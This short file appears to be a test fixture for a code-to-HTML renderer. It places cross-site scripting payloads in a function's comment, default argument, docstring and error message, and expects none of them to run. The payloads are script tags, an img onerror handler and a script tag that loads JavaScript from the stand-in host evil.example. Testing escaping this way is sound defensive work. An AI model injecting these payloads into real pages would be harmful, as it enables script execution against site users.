# Writes scripts into comments, names and strings of the code.
#
# start from: blank
# expect: all 0

# %% build_vocabulary
# </pre></div><script>alert('evil')</script>
def build_vocabulary(texts, min_count="</code><img src=x onerror=alert('evil')>"):
    "--><script src='https://evil.example/x.js'></script>"
    raise ValueError("</td></table><script>alert('evil')</script>")
